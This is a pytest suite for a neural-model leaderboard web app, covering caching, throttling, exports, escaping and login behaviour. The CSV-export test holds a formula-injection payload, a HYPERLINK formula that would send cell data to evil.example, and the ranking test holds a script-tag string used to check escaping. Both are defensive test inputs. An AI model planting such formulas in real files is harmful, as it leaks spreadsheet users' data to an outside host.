    assert TestClient(app).get("/api/submissions/999", headers={"Authorization": f"Bearer {token}"}).status_code == 404
    engine = app.state.site.engine
    with Session(engine) as session:  # a token made before the prefix existed
        owner = session.scalar(select(User).where(User.username == "alice"))
        session.add(ApiToken(user_id=owner.id, token_sha256=hashlib.sha256(b"old-style-token").hexdigest()))
        session.commit()
    assert accounts.user_by_token(engine, "old-style-token").username == "alice"


def test_json_bytes_writes_what_fastapi_writes():
    """The shared JSON answers are encoded by json.dumps with FastAPI's encoder only for what it cannot
    write: the same bytes as FastAPI's own encoding, and NaN refused, not sent as invalid JSON."""
    import dataclasses
    import datetime as dt
    import json

    from fastapi.encoders import jsonable_encoder

    from brainscore.web.site import json_bytes

    @dataclasses.dataclass
    class Stamp:
        n: int
        when: dt.datetime

    value = {"scores": [1, 0.25, None, "é"], "pair": (1, 2), "stamp": Stamp(1, dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)),
             "day": dt.date(2026, 1, 2), 3: "an int key"}
    fastapi = json.dumps(jsonable_encoder(value), ensure_ascii=False, allow_nan=False, separators=(",", ":")).encode()
    assert json_bytes(value) == fastapi
    assert json.loads(json_bytes(value))["stamp"] == {"n": 1, "when": "2026-01-01T00:00:00+00:00"}
    with pytest.raises(ValueError):
        json_bytes({"score": float("nan")})


def test_ranking_rows_write_what_the_template_loop_wrote():
    """The benchmark page's ranking is written in Python (12 ms of Jinja per rebuild at 704 models): the same
    markup as the loop it replaced, model identifiers escaped."""
    from brainscore.web.site import ranking_rows, templates

    loop = templates().env.from_string(
        '{% for r in ranking %}\n'
        '<tr data-model="{{ r.model }}"><td>{{ loop.index }}</td><td><a href="/models/{{ r.model }}">{{ r.model }}</a></td>\n'
        '<td class="{{ r.score|colour_class }}">{{ r.score|fmt(4) }}</td>\n'
        '<td>{% if r.ci95 %}[{{ r.ci95[0]|fmt(3) }}, {{ r.ci95[1]|fmt(3) }}]{% else %}—{% endif %}</td>\n'
        '<td>{{ r.raw|fmt(4) }}</td><td>{{ r.error|fmt(4) }}</td></tr>\n{% endfor %}')
    ranking = [{"model": "net-a", "score": 0.61234, "ci95": [0.5, 0.7], "raw": 0.4, "error": 0.012},
               {"model": '<script>"x"&y</script>', "score": None, "ci95": None, "raw": None, "error": None},
               {"model": "net-b", "score": 1.0, "ci95": (0.99, 1.0), "raw": float("nan"), "error": 0.0}]
    written = str(ranking_rows(ranking))
    assert written == loop.render(ranking=ranking).lstrip("\n").replace("</tr>\n\n", "</tr>\n")
    assert "<script>" not in written and "&lt;script&gt;&#34;x&#34;&amp;y&lt;/script&gt;" in written
    assert '<td class="c61">0.6123</td>' in written and "[0.500, 0.700]" in written


def test_shared_pages_lag_new_scores_by_at_most_the_page_max_age_and_nothing_else(tmp_path):
    """`brainscore serve --page-max-age-s`: a new score reaches the shared leaderboard within twice the max-age; a
    model made private or deleted disappears at the next request, whatever the max-age."""
    import time

    app = create_app(db_url=f"sqlite:///{tmp_path / 'results.sqlite'}", root=tmp_path / "submissions",
                     start_worker=False, page_max_age=0.8)
    store = app.state.store
    add_scored_model(store, "pub-net", 0.25)
    add_scored_model(store, "other-net", 0.5)
    anonymous = TestClient(app)
    assert 'data-model="pub-net"' in anonymous.get("/").text
    add_scored_model(store, "new-net", 0.75)
    started = time.monotonic()
    lagging = 'data-model="new-net"' not in anonymous.get("/").text
    assert lagging or time.monotonic() - started > 0.5  # the page built before the score, still recent
    time.sleep(1.65)
    assert 'data-model="new-net"' in anonymous.get("/").text  # older than twice the max-age: built again
    store.set_public("pub-net", False)  # made private: not lagged
    assert 'data-model="pub-net"' not in anonymous.get("/").text
    store.delete_model("other-net")  # deleted (a rewrite): not lagged
    assert 'data-model="other-net"' not in anonymous.get("/").text
    assert anonymous.get("/models/other-net").status_code == 404


def test_score_cells_are_written_once_per_leaderboard_entry():
    """The cells of an entry the leaderboard shares between versions are reused; an entry a new score
    replaced, or equal values in other dicts, are written anew, and reuse never changes the markup."""
    from brainscore.leaderboard.aggregate import Standings, build_tree
    from brainscore.results import StoredScore
    from brainscore.web.site import _score_cells, score_cells

    tree = build_tree({"v4a": "V4", "ita": "IT"}, {"neural_vision": "average_vision", "V4": "neural_vision",
                                                   "IT": "neural_vision"})

    def stored(model, benchmark, value, k):
        return StoredScore(model=model, benchmark=benchmark, benchmark_version=1, score=value, raw=value, ceiling=None,
                           error=None, ci95=None, provenance={}, layers=None, start=None, end=None, status="done",
                           failure=None, id=k)

    standings = Standings(tree, {"v4a": 1, "ita": 1}, [stored("a", "v4a", 0.5, 1), stored("b", "ita", 0.25, 2)])
    cols = [{"node": n, "leaf": n in tree.leaves, "ancestors": [], "hidden": False, "hidden_by": 0} for n in tree.order()]
    before = {e["model"]: score_cells(dict(e), cols) for e in standings.records}  # views copy each entry
    assert standings.add([stored("b", "v4a", 0.75, 3)])
    after = {e["model"]: score_cells(dict(e), cols) for e in standings.records}
    assert after["a"] is before["a"]  # unchanged entry: its cells reused
    assert after["b"] is not before["b"] and 'data-score="0.750000"' in after["b"]
    entry = next(e for e in standings.records if e["model"] == "a")
    twin = {**entry, "scores": dict(entry["scores"]), "missing": dict(entry["missing"]), "rule": dict(entry["rule"])}
    assert score_cells(twin, cols) is not before["a"] and score_cells(twin, cols) == before["a"]
    folded = [{**c, "hidden": c["node"] == "v4a", "hidden_by": int(c["node"] == "v4a")} for c in cols]
    assert score_cells(dict(entry), folded) != before["a"]  # the columns' state is part of the key
    for e in standings.records:
        assert score_cells(dict(e), cols) == _score_cells(dict(e), cols)


def test_a_benchmark_page_is_built_again_when_its_own_inputs_change_only(app, monkeypatch):
    """A score of another benchmark leaves a benchmark's shared page as it was (not built again); its own
    new score, a correction by hand, a model made private and its re-scoring tasks each show at the next
    request."""
    from sqlalchemy import text

    from brainscore.web import views
    from brainscore.web.new_benchmarks import marker

    built = []
    real = views.benchmark_json
    monkeypatch.setattr(views, "benchmark_json", lambda *a, **k: built.append(a[1]) or real(*a, **k))
    anonymous, store = TestClient(app), app.state.store

    def other_benchmark_score(value):
        record(Outcome.from_score(Score.of(value, raw=value, ceiling=0.8, model_identifier="pub-net",
                                           benchmark_identifier="Kiani2007.IT-rdm")), store)

    other_benchmark_score(0.5)  # its first: a new benchmark instance row, a rewrite (every page is built anew)
    page = anonymous.get(f"/benchmarks/{BENCHMARK}")
    assert 'data-model="pub-net"' in page.text and built == [BENCHMARK]
    other_benchmark_score(0.625)  # another score of another benchmark
    again = anonymous.get(f"/benchmarks/{BENCHMARK}")
    assert again.headers["etag"] == page.headers["etag"] and built == [BENCHMARK]
    add_scored_model(store, "new-net", 0.625)  # a score of this benchmark
    assert 'data-model="new-net"' in anonymous.get(f"/benchmarks/{BENCHMARK}").text
    with app.state.engine.begin() as connection:  # a correction by hand
        connection.execute(text("UPDATE scores SET score_ceiled = 0.125 WHERE model_id = "
                                "(SELECT id FROM models WHERE identifier = 'new-net')"))
    assert ">0.1250<" in anonymous.get(f"/benchmarks/{BENCHMARK}").text
    store.set_public("new-net", False)
    assert 'data-model="new-net"' not in anonymous.get(f"/benchmarks/{BENCHMARK}").text
    with Session(app.state.engine) as session:  # re-scored for every public model: the progress shows at once
        session.add(SubmissionTask(owner="brainscore", package="", filename=marker(BENCHMARK, 7),
                                   models=["pub-net"], benchmarks=[BENCHMARK], status="queued"))
        session.commit()
    assert 'id="rescoring-total">1<' in anonymous.get(f"/benchmarks/{BENCHMARK}").text
    assert len(built) == 5


def test_warm_pages_builds_the_shared_pages_before_the_first_visitor(tmp_path):
    """`brainscore serve` starts each web worker with the shared pages built: its first visitors find them."""
    app = create_app(db_url=f"sqlite:///{tmp_path / 'results.sqlite'}", root=tmp_path / "submissions",
                     start_worker=False, warm_pages=True)
    add_scored_model(app.state.store, "pub-net", 0.25)
    with TestClient(app) as client:
        results = app.state.site.results
        before = results.computed
        for path in ("/", "/?page=2", "/api/leaderboard", f"/benchmarks/{BENCHMARK}", f"/api/benchmarks/{BENCHMARK}"):
            assert client.get(path).status_code == 200
        assert results.computed == before  # nothing was built for them
        assert 'data-model="pub-net"' in client.get("/").text
        assert client.get("/?page=3").status_code == 200 and results.computed > before  # not warmed: built now


def test_sign_ups_are_bounded_per_client_address_and_per_site(app):
    """Issue 36: registrations were unbounded (a bot could make accounts without end). 20 accounts per client
    address and 200 on the site per hour; a form with a mistake costs nothing; then 429 with the reason."""
    import html

    from brainscore.web.notices import Throttle

    def sign_up(client, name):
        return client.post("/register", data={"username": name, "password": "correct horse", "email": f"{name}@ex.org",
                                              "csrf_token": csrf(client, "/register")}, follow_redirects=False)

    bot = TestClient(app, client=("203.0.113.7", 4000))
    assert sign_up(bot, "x").status_code == 400  # a malformed name: not counted
    assert [sign_up(bot, f"bot-{i}").status_code for i in range(20)] == [303] * 20
    refused = sign_up(bot, "bot-20")
    assert refused.status_code == 429
    assert ("too many accounts were registered from your address this hour (at most 20/hour); try again later"
            in html.unescape(refused.text))
    assert sign_up(TestClient(app, client=("198.51.100.1", 4000)), "someone-else").status_code == 303
    app.state.site.throttle = Throttle(registrations="2/hour")  # the whole site's bound, made small
    assert [sign_up(TestClient(app, client=(f"198.51.100.{i}", 4000)), f"many-{i}").status_code
            for i in range(10, 13)] == [303, 303, 429]


def test_a_failed_resubmission_never_hides_a_done_score_on_any_surface(app):
    """Issue 36: a pair scored, then its resubmission failed. The board, its CSV and JSON exports and
    ``/api/leaderboard`` all still show the done value, with the failure beside it; a pair whose only run
    failed shows "failed", one never run "—", and each row says how complete it is."""
    from brainscore.web.tasks import record_pair_failure

    store = app.state.store
    with Session(app.state.engine) as session:  # the failing resubmission, as the queue records it
        task = SubmissionTask(owner="alice", package="my_tiny_net", models=["pub-net"], benchmarks=[BENCHMARK],
                              status="running", log="", folder="/nonexistent")
        session.add(task)
        session.commit()
        task_id = task.id
    record_pair_failure(store, task_id, None, "pub-net", BENCHMARK,
                        "RuntimeError: CUDA out of memory in /home/operator/secret/model.py\nsecond line")
    record_pair_failure(store, task_id, None, "pub-net", "Mur2013-rdm", "ValueError: no layer V4")
    client = TestClient(app)
    api = {r["model"]: r for r in client.get("/api/leaderboard").json()}
    assert api["pub-net"]["scores"][BENCHMARK] == pytest.approx(0.25)
    assert api["pub-net"]["failed"][BENCHMARK].startswith("RuntimeError: CUDA out of memory in")
    assert "/home/operator" not in api["pub-net"]["failed"][BENCHMARK]  # redacted: no server paths
    assert "second line" not in api["pub-net"]["failed"][BENCHMARK]     # one line
    assert api["pub-net"]["scores"]["Mur2013-rdm"] is None and api["pub-net"]["failed"]["Mur2013-rdm"] == \
        "ValueError: no layer V4"
    done, total = api["pub-net"]["complete"]
    assert done == 1 and total >= 10
    lines = client.get("/leaderboard.csv").text.splitlines()
    header = lines[0].split(",")
    row = next(line.split(",") for line in lines[1:] if line.split(",")[1] == "pub-net")
    assert row[header.index(BENCHMARK)] == "0.250000"
    body = client.get("/leaderboard.json").json()
    row = next(r for r in body["rows"] if r["model"] == "pub-net")
    assert row[BENCHMARK] == pytest.approx(0.25) and BENCHMARK in row["failed"] and row["complete"] == [1, total]
    page = client.get("/").text
    cells = re.search(r'<tr data-model="pub-net">(.*?)</tr>', page, re.S).group(1)
    cell = re.search(rf'<td [^>]*data-node="{re.escape(BENCHMARK)}"[^>]*>.*?</td>', cells, re.S).group(0)
    assert 'data-score="0.250000"' in cell and 'data-state="done"' in cell and "a later run failed: RuntimeError" in cell
    assert 'class="later-failed"' in cell
    mur = re.search(r'<td [^>]*data-node="Mur2013-rdm"[^>]*>.*?</td>', cells, re.S).group(0)
    assert 'data-state="failed"' in mur and '<span class="failed">failed</span>' in mur and "no layer V4" in mur
    assert re.search(r'<td [^>]*data-node="Kiani2007.IT-rdm"[^>]*data-state="none"', cells)
    assert f'<span class="complete" title="benchmarks with a done score, of all">1/{total}</span>' in cells
    assert 'id="average-note"' in page and "counts as 0" in page
    # a later done run clears the failure mark
    add_scored_model(store, "pub-net", 0.3)
    api = {r["model"]: r for r in client.get("/api/leaderboard").json()}
    assert api["pub-net"]["scores"][BENCHMARK] == pytest.approx(0.3) and BENCHMARK not in api["pub-net"]["failed"]


def test_a_top1_score_page_shows_the_raw_accuracy_as_every_other_page(app):
    """Issue 36: ``/scores/{id}`` showed the ceiled value and "ceiling 0.8000" of a top-1 benchmark where the
    leaderboard, the model and the benchmark pages show the raw accuracy."""
    score_id = record(Outcome.from_score(Score.of(0.5, raw=0.4, ceiling=0.8, model_identifier="pub-net",
                                                  benchmark_identifier="Geirhos2021edge-top1")), app.state.store)
    client = TestClient(app)
    page = client.get(f"/scores/{score_id}").text
    assert 'data-score="0.40000000000000002"' in page and "0.8000" not in page and "0.5000" not in page
    model = client.get("/api/models/pub-net").json()
    assert next(r for r in model["scores"] if r["benchmark"] == "Geirhos2021edge-top1")["score"] == pytest.approx(0.4)


def test_records_without_an_end_time_count_from_their_start(app):
    """Issue 36: ``?at=`` and ``?since=`` dropped every record without an end time (4 of 706 models "as of
    today"). A record counts from its end, else its start; one with neither counts as of today only."""
    import datetime as dt

    for model, provenance in (("started-net", {"start": "2026-02-10T08:00:00+00:00"}), ("undated-net", {})):
        record(Outcome.from_score(Score.of(0.5, raw=0.4, ceiling=0.8, model_identifier=model,
                                           benchmark_identifier=BENCHMARK, provenance=provenance)), app.state.store)
    client = TestClient(app)
    today = dt.datetime.now(dt.timezone.utc).date().isoformat()
    now = {r["model"] for r in client.get("/api/leaderboard").json()}
    assert {r["model"] for r in client.get("/api/leaderboard", params={"at": today}).json()} == now >= \
        {"started-net", "undated-net"}
    assert {r["model"] for r in client.get("/api/leaderboard", params={"at": "2026-02-10"}).json()} == {"started-net"}
    assert client.get("/api/leaderboard", params={"at": "2026-02-09"}).json() == []
    since = {r["model"] for r in client.get("/api/leaderboard", params={"since": "2026-02-01"}).json()}
    assert "started-net" in since


def test_csv_exports_never_carry_a_formula_and_numbers_stay_numbers(app, capsys):
    """Issue 36: ``/leaderboard.csv`` carried ``=HYPERLINK(...)`` cells. Every text cell starting with = + - @
    tab or CR is prefixed with ``'`` (OWASP), on the website and ``brainscore leaderboard --format csv``; scores,
    negative ones included, stay numbers."""
    import csv as csv_module
    import io

    from brainscore.cli import main
    from brainscore.leaderboard.csv_cells import safe_cell

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    add_scored_model(app.state.store, evil, 0.5)
    add_scored_model(app.state.store, "@sum-net", 0.4)
    rows = list(csv_module.reader(io.StringIO(TestClient(app).get("/leaderboard.csv").text)))
    models = [row[1] for row in rows[1:]]
    assert "'" + evil in models and "'@sum-net" in models and "pub-net" in models
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert main(["leaderboard", "--format", "csv", "--db", app.state.store.url]) == 0
    cli = list(csv_module.reader(io.StringIO(capsys.readouterr().out)))
    assert "'" + evil in [row[0] for row in cli[1:]]
    assert [safe_cell(v) for v in ("-0.250000", -0.25, "1e-05", "-net", "\tx", "\rx", "+1 (555)", None)] == \
        ["-0.250000", -0.25, "1e-05", "'-net", "'\tx", "'\rx", "'+1 (555)", ""]


def test_the_bibtex_export_keeps_an_at_sign_inside_a_field(app, monkeypatch):
    """Issue 36: the BibTeX export split entries at every ``@``, so an address in a url or title made two broken
    entries. Entries end at the brace that closes them."""
    from brainscore.web.routes import pages

    entry = ("@article{netpaper2026,\n  title={Mail the authors at lab@example.org},\n"
             "  url={https://social.example/@lab},\n  note=\"see @home\"\n}")
    monkeypatch.setattr(pages, "model_bibtex", lambda site, model: entry if model == "pub-net" else "")
    bib = TestClient(app).get("/leaderboard.bib").text
    assert entry in bib and bib.count("@article{netpaper2026") == 1
    assert "\n\n@example.org" not in bib and "\n\n@lab}" not in bib
    assert pages._entries("% a comment with no entry\n@misc{a, title={x}}\n@book(b, title={p)q})") == \
        ["@misc{a, title={x}}", "@book(b, title={p)q})"]


def test_times_are_shown_in_utc(app):
    """Issue 36: times were shown without a zone; every page and export says UTC."""
    add_scored_model(app.state.store, "dated-net", 0.5, provenance={"end": "2026-03-01T12:34:00+00:00"})
    client = TestClient(app)
    page = client.get("/models/dated-net").text
    assert '<td class="muted">2026-03-01 12:34 UTC</td>' in page
    assert client.get("/api/models/dated-net").json()["scores"][0]["end"] == "2026-03-01T12:34:00+00:00"
    alice = user(app, "alice")
    key = queued_task(app)
    assert alice.get(f"/api/submissions/{key}").json()["created"].endswith("+00:00")
    assert re.search(r"\d{4}-\d\d-\d\d \d\d:\d\d UTC", alice.get("/submissions").text)


def test_model_page_ranks_per_node_and_benchmark_page_says_how_to_use_it(app):
    """Issue 36, beyond brain-score.org: a model's page gives its rank at each node of the leaderboard tree, and a
    benchmark's page a snippet of this project's API that scores a model on it."""
    import html

    _more_scores(app)  # pub-net 0.25 on the V4 benchmark and 0.30 on Mur2013-rdm; other-net 0.45 and 0.20
    client = TestClient(app)
    ranks = {r["node"]: r for r in client.get("/api/models/pub-net").json()["ranks"]}
    assert (ranks[BENCHMARK]["rank"], ranks[BENCHMARK]["of"]) == (2, 2)   # behind other-net (secret-net is private)
    assert (ranks["Mur2013-rdm"]["rank"], ranks["Mur2013-rdm"]["of"]) == (1, 2)
    assert ranks["average_vision"]["of"] == 2 and "Kiani2007.IT-rdm" not in ranks  # no value there: no rank
    page = client.get("/models/pub-net").text
    assert re.search(rf'<tr data-node="{re.escape(BENCHMARK)}"><td>.*?</td><td>0.250</td><td>2 of 2</td></tr>', page)
    snippet = html.unescape(re.search(r'<pre class="snippet" id="how-to-use"[^>]*>(.*?)</pre>',
                                      client.get(f"/benchmarks/{BENCHMARK}").text, re.S).group(1))
    assert snippet.startswith(f'from brainscore import score\n\nresult = score("other-net", "{BENCHMARK}")')
    assert f"brainscore score --model other-net --benchmark {BENCHMARK}" in snippet
    import brainscore
    assert callable(brainscore.score)  # the name the snippet imports


# ---------------------------------------------------------------- issue 36: the walk's HTTP defects
def test_a_browser_gets_the_sites_page_for_a_body_too_large_and_the_api_json(app):
    """A 52 MB upload through the form answered a raw JSON 413 page; the API keeps its JSON."""
    from brainscore.web.security import FORM_BYTES

    client = TestClient(app)
    big = {"username": "x" * (FORM_BYTES + 1), "password": "y"}
    page = client.post("/login", data=big, headers={"Accept": "text/html"})
    assert page.status_code == 413 and page.headers["content-type"].startswith("text/html")
    assert page.headers["connection"] == "close"
    assert '<h1>413: too large</h1>' in page.text and 'class="brand"' in page.text
    assert "nothing of it was kept" in page.text
    api = client.post("/api/models/pub-net/visibility", data=big)
    assert api.status_code == 413 and api.headers["content-type"] == "application/json"
    assert "nothing of it was kept" in api.json()["detail"]


def test_compare_without_models_guides_and_a_gone_model_is_named(app):
    """``/compare`` without models was a 400 page, a shared link with one deleted model a 404."""
    add_scored_model(app.state.store, "other-net", 0.5)
    client = TestClient(app)
    empty = client.get("/compare")
    assert empty.status_code == 200 and 'id="guidance"' in empty.text and "/compare?models=A,B" in empty.text
    assert 'id="comparison"' not in empty.text
    shared = client.get("/compare", params={"models": "pub-net,gone-net,other-net"})
    assert shared.status_code == 200 and 'id="comparison"' in shared.text
    gone = re.search(r'<p class="notice" id="gone">(.*?)</p>', shared.text, re.S).group(1)
    assert "gone-net" in gone and "pub-net" not in gone
    assert '<th><a href="/models/pub-net">' in shared.text and '<th><a href="/models/other-net">' in shared.text
    lonely = client.get("/compare", params={"models": "pub-net,secret-net"})  # another's private model: gone too
    assert lonely.status_code == 200 and 'id="guidance"' in lonely.text and "only <a href=\"/models/pub-net\"" in \
        lonely.text and "secret-net" in lonely.text and "0.7500" not in lonely.text
    assert client.get("/api/compare", params={"models": "pub-net"}).status_code == 400  # the API keeps its errors


def test_an_unknown_benchmarks_plot_is_404(app):
    """An unknown benchmark's plot was an empty 200 SVG."""
    client = TestClient(app)
    missing = client.get("/plots/benchmarks/NoSuchBenchmark.svg")
    assert missing.status_code == 404 and "NoSuchBenchmark" in missing.json()["detail"]
    known = client.get(f"/plots/benchmarks/{BENCHMARK}.svg")
    assert known.status_code == 200 and known.headers["content-type"] == "image/svg+xml"


def test_my_models_logged_out_goes_to_the_log_in_page_like_every_page_of_ones_own(app):
    """``/models?mine=1`` answered 401 where ``/submissions``, ``/account`` and ``/submit`` redirect."""
    client = TestClient(app)
    for path in ("/models?mine=1", "/submissions", "/account", "/submit"):
        answer = client.get(path, follow_redirects=False)
        assert (answer.status_code, answer.headers.get("location")) == (303, "/login"), path
    assert client.get("/models").status_code == 200


def test_the_pages_of_ones_own_ask_for_a_log_in_through_one_dependency(app):
    """``/account``, ``/submit``, ``/submissions`` and a submission's page declare ``Depends(require_user)`` (issue 38)
    where each checked the session by hand; logged out, a submission's page (JSON asked for or not) still goes to
    the log-in page, with the site's security headers, and logged in it is the owner's check that answers."""
    from brainscore.web.routes import accounts, submissions
    from brainscore.web.security import require_user

    pages = {route.path: route for router in (accounts.router, submissions.router) for route in router.routes
             if "GET" in route.methods}
    for path in ("/account", "/submit", "/submissions", "/submissions/{key}"):
        assert any(d.call is require_user for d in pages[path].dependant.dependencies), path
    client = TestClient(app)
    for headers in ({}, {"accept": "application/json"}):
        answer = client.get("/submissions/no-such-key", headers=headers, follow_redirects=False)
        assert (answer.status_code, answer.headers.get("location")) == (303, "/login")
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    alice = user(app, "alice")
    assert alice.get("/submissions/no-such-key").status_code == 404
    assert all(alice.get(path).status_code == 200 for path in ("/account", "/submit", "/submissions"))


def test_an_api_call_without_any_credentials_is_told_to_log_in(app):
    """A POST to the API without a session or token answered 403 "CSRF token missing"."""
    anonymous = TestClient(app)
    answer = anonymous.post("/api/submissions", files={"file": ("p.zip", plugin_zip(), "application/zip")})
    assert answer.status_code == 401 and answer.headers["www-authenticate"] == "Bearer"
    assert "Authorization: Bearer TOKEN" in answer.json()["detail"]
    alice = user(app, "alice")  # logged in, without the CSRF token: that is still a CSRF refusal
    answer = alice.post("/api/submissions", files={"file": ("p.zip", plugin_zip(), "application/zip")})
    assert answer.status_code == 403 and "CSRF" in answer.json()["detail"]
    assert anonymous.post("/login", data={"username": "a", "password": "b"}).status_code == 403  # a form: CSRF


def test_registration_names_every_problem_at_once(app):
    """Only the first problem was reported: a user fixed the name, then learned the password was too short."""
    user(app, "alice")
    client = TestClient(app)
    answer = client.post("/register", data={"username": "alice", "password": "short", "email": "not-an-address",
                                            "csrf_token": csrf(client, "/register")})
    assert answer.status_code == 400
    problems = re.findall(r"<li>(.*?)</li>", re.search(r'id="problems".*?</ul>', answer.text, re.S).group(0), re.S)
    assert len(problems) == 3
    assert "alice" in problems[0] and "taken" in problems[0]
    assert "at least 8 characters" in problems[1] and "not an e-mail address" in problems[2]
    one = client.post("/register", data={"username": "bob", "password": "short", "email": "bob@example.org",
                                         "csrf_token": csrf(client, "/register")})
    assert one.status_code == 400 and 'id="problems"' not in one.text and "at least 8 characters" in one.text


def test_vary_names_each_value_once(app):
    """Responses carried ``Vary: Accept-Encoding, Cookie, Authorization, Cookie``."""
    anonymous, alice = TestClient(app), user(app, "alice")
    for client in (anonymous, alice):
        for path in ("/", "/models/pub-net", "/benchmarks", "/account", "/login"):
            answer = client.get(path, headers={"Accept-Encoding": "gzip"})
            values = [v.strip().lower() for header in answer.headers.get_list("vary") for v in header.split(",")]
            assert len(answer.headers.get_list("vary")) <= 1 and len(values) == len(set(values)), (path, values)
    assert "authorization" in [v.strip().lower() for v in alice.get("/account").headers["vary"].split(",")]


def test_ranks_are_shared_by_ties_and_kept_by_a_name_search(app):
    """``#`` was each row's position: tied models got 2 and 3, and a search for one model showed it as 1."""
    add_scored_model(app.state.store, "tie-net", 0.25)  # ties pub-net everywhere
    add_scored_model(app.state.store, "top-net", 0.5)
    client = TestClient(app)
    page = client.get("/").text
    ranks = dict((m, int(k)) for k, m in re.findall(r'<td class="rank">(\d+)</td>\s*<td class="model"><a href="/models/([^"]+)"', page))
    assert ranks == {"top-net": 1, "pub-net": 2, "tie-net": 2}
    searched = client.get("/", params={"q": "tie"}).text
    assert re.findall(r'<td class="rank">(\d+)</td>', searched) == ["2"]
    api = client.get("/api/leaderboard", params={"q": "tie", "page": 1}).json()
    assert [(r["model"], r["rank"]) for r in api] == [("tie-net", 2)]


def test_empty_query_parameters_are_as_if_absent(app):
    """``?q=&sort=&page=`` (a form sent with blank fields) answered 422 on the leaderboard, the models index and
    the API; ``?fold=`` keeps its meaning (nothing folded)."""
    client = TestClient(app)
    for path in ("/?q=&sort=&desc=&page=", "/models?q=&page=&mine=", "/benchmarks?q=&region=", "/?at=&since=",
                 "/leaderboard.csv?sort=&q=&page="):
        answer = client.get(path)
        assert answer.status_code == 200, (path, answer.text[:300])
    assert client.get("/api/leaderboard", params={"q": "", "sort": "", "page": ""}).json() == \
        client.get("/api/leaderboard").json()
    page = client.get("/?q=&sort=").text
    assert 'href="/?sort=average_vision&desc=0"' in page and "sort=&" not in page
    unfolded, default = client.get("/?fold=").text, client.get("/").text
    assert unfolded.count('aria-expanded="false"') == 0 < default.count('aria-expanded="false"')


def test_the_benchmark_pages_metric_parameters_are_a_definition_list(tmp_path):
    """The parameters were shown as a Python dict's repr (``{'name': 'pls', 'params': {...}}``)."""
    app = create_app(db_url=f"sqlite:///{tmp_path / 'results.sqlite'}", root=tmp_path / "submissions",
                     start_worker=False)
    metric = {"name": "pls", "params": {"n_components": 25, "scale": False}, "splits": [1, 2], "seed": None}
    add_scored_model(app.state.store, "pub-net", 0.25, provenance={"metric": metric})
    page = TestClient(app).get(f"/benchmarks/{BENCHMARK}").text
    shown = re.search(r'<summary>parameters</summary>(.*?)</details>', page, re.S).group(1)
    assert "{'" not in shown and "&#39;" not in shown
    assert '<dt>name</dt><dd><code>pls</code></dd>' in shown
    assert '<dt>params</dt><dd><dl class="parameters"><dt>n_components</dt><dd><code>25</code></dd>' in shown
    assert '<dt>splits</dt><dd><code>1, 2</code></dd>' in shown and '<dt>seed</dt><dd><span class="muted">none' in shown


def test_a_selection_only_benchmark_is_marked_on_the_model_page(app):
    """A score on a benchmark that serves only layer selection was listed like a leaderboard benchmark."""
    from brainscore.leaderboard import tree

    selection = next(b for b in tree.benchmark_parents(include_selection=True) if b not in tree.benchmark_parents())
    record(Outcome.from_score(Score.of(0.4, raw=0.32, ceiling=0.8, model_identifier="pub-net",
                                       benchmark_identifier=selection)), app.state.store)
    page = TestClient(app).get("/models/pub-net").text
    row = re.search(rf'<tr class="row-done" data-benchmark="{re.escape(selection)}">.*?</tr>', page, re.S).group(0)
    assert "layer selection, not in the average" in row
    ordinary = re.search(rf'<tr class="row-done" data-benchmark="{re.escape(BENCHMARK)}">.*?</tr>', page, re.S).group(0)
    assert "selection-only" not in ordinary


def test_columns_follow_the_reference_order(app):
    """The leaderboard put behaviour before neural and IT before V1 (alphabetical); brain-score.org shows the
    average, then neural (V1, V2, V4, IT), then behaviour, then engineering."""
    page = TestClient(app).get("/").text
    inner = re.findall(r'<th class="col depth[01][^"]*" data-node="([^"]+)"', page)
    assert inner[:4] == ["average_vision", "neural_vision", "behavior_vision", "engineering_vision"]
    regions = [n for n in re.findall(r'<th class="col depth2[^"]*" data-node="([^"]+)"', page) if n in ("V1", "V2", "V4", "IT")]
    assert regions == ["V1", "V4", "IT"]  # (V2 has no benchmark yet: no column)
    header = TestClient(app).get("/leaderboard.csv").text.splitlines()[0]
    assert header.index("neural_vision") < header.index("behavior_vision") < header.index("engineering_vision")


def test_every_page_names_a_person_by_display_name_and_user_name(app):
    """Issue 36: pages named a person by display name on some pages and by user name on others. Now the same
    everywhere (:func:`brainscore.web.site.person`): "Ada Lovelace (@alice)", or "@bob" without a display name,
    on the account page and menu, a model's page and card, the models index and a submission's page (as its
    owner and an administrator see it)."""
    from brainscore.web import accounts, administrators

    alice, bob = user(app, "alice"), user(app, "bob")
    add_scored_model(app.state.store, "bob-net", 0.5, owner="bob")
    response = alice.post("/account/name", data={"display_name": "  Ada   <b>Lovelace</b> ",
                                                 "csrf_token": csrf(alice, "/account")}, follow_redirects=False)
    assert response.status_code == 303
    ada = "Ada &lt;b&gt;Lovelace&lt;/b&gt; (@alice)"  # escaped: a display name is text, never markup
    account = alice.get("/account").text
    assert f"<h1>{ada}</h1>" in account and f'<a href="/account">{ada}</a>' in account
    assert '<a href="/account">@bob</a>' in bob.get("/account").text
    for client in (TestClient(app), bob):
        page = client.get("/models/pub-net").text
        assert f"submitted by {ada} ·" in page and f"<th>submitted by</th><td>{ada}</td>" in page
        bob_page = client.get("/models/bob-net").text
        assert "submitted by @bob ·" in bob_page and "<th>submitted by</th><td>@bob</td>" in bob_page
        index = client.get("/models").text
        assert f"<td>{ada}</td>" in index and "<td>@bob</td>" in index
    key = queued_task(app, owner="alice")
    assert f'submitted by <span id="submitter">{ada}</span>' in alice.get(f"/submissions/{key}").text
    bob_row = accounts.user_by_email(app.state.engine, "bob@example.org")  # an administrator sees whose it is
    assert bob.get(f"/verify?token={accounts.verification_token(app.state.site.secret_key, bob_row)}").status_code == 200
    administrators.add(app.state.engine, "bob")
    assert f'submitted by <span id="submitter">{ada}</span>' in bob.get(f"/submissions/{key}").text
    assert alice.get("/api/models/pub-net").json()["owner"] == "alice"  # the API keeps the user name
